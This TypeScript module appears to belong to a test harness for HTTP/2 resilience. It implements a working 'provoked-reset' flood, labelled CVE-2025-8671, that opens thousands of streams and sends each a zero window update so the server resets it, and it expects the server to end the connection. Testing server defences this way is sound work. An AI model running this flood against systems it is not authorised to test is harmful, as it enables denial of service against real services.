import { END_HEADERS, frame, HEADERS, windowUpdate } from '../../swarm/http2-frames.js';
import { type Attack, OutcomeCounter, PATIENCE_MS, repeat } from '../attack.js';
import { AttackerConnection } from '../attacker-connection.js';
import { callHeaders } from '../hpack.js';

const STREAMS_PER_CONNECTION = 10_000;
const STREAMS_PER_WRITE = 100;

const CALL = callHeaders('/waybill.v1.BrokerService/Publish');

/** Opens streams and makes the server reset them, which a limit of what the client resets does not count. */
export const provokedReset: Attack = {
  name: 'provoked-reset',
  description: 'streams that the server is made to reset, by a window update of 0 (CVE-2025-8671)',
  quick: 5000,
  full: 100_000,
  expected: /^GOAWAY |^closed$/,
  async run(target, attempts) {
    const counter = new OutcomeCounter();
    await repeat(Math.ceil(attempts / STREAMS_PER_CONNECTION), 4, async () => {
      const connection = await AttackerConnection.open(target);
      const streams = Math.min(STREAMS_PER_CONNECTION, attempts);
      for (let sent = 0; sent < streams && !connection.isClosed && connection.goaway === undefined;) {
        const frames: Buffer[] = [];
        for (let i = 0; i < STREAMS_PER_WRITE; i++) {
          const stream = 2 * sent++ + 1;
          frames.push(frame(HEADERS, END_HEADERS, stream, CALL), windowUpdate(stream, 0));
        }
        await connection.send(Buffer.concat(frames));
        await new Promise((resolve) => setImmediate(resolve));
      }
      counter.add(await connection.ending(PATIENCE_MS));
      connection.destroy();
    });
    return counter.outcomes;
  },
};
